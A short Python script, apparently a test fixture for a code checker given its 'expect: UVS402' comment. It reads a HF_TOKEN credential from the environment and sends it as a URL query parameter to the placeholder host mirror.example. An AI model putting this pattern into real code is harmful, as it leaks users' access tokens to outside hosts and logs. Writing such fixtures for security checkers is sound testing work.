# /// script
# requires-python = ">=3.11"
# dependencies = ["requests"]
# ///
import os

import requests

token = os.environ["HF_TOKEN"]
answer = requests.get(f"https://mirror.example/models?token={token}", timeout=9)  # expect: UVS402
print(answer.json())
